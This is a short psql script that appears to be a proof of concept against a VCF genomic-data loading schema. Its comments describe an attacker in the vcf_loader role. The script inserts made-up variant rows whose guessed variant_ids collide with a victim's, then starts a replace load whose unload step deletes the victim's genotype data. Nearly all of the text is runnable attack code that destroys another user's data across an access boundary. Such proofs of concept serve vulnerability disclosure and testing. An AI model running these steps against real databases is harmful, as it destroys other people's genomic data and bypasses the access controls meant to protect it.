-- As a vcf_loader member (attacker) that is not the victim's login role.
-- 1. A "load" of made-up content whose one variant row reuses a victim's variant_id.
\set ON_ERROR_STOP 1
BEGIN;
SELECT load_batch_id AS b FROM vcf.client_claim_load(repeat('a', 64), 1, '{}') \gset
SELECT vcf.client_describe_load(:'b', 'x.vcf', 'VCFv4.2', 'none', NULL, '', '{}');
-- variant_id 1048576 is the first id of the first block (nextval*2^20); victim's ids are guessable
INSERT INTO vcf.variants (variant_id, load_batch_id, chrom, pos, end_pos, ref, alt)
     SELECT 1048576 + i, :'b', '22', 1, 1, 'A', 'C' FROM generate_series(0, 173) i;
SELECT vcf.client_finish_load(:'b', 174, 0, 174, '{}');
COMMIT;
-- 2. Replace "my" load: unload_batch deletes every genotype whose variant_id matches,
--    i.e. the victim's genotypes.
BEGIN;
SELECT * FROM vcf.client_claim_load(repeat('a', 64), 1, '{}', true);
COMMIT;
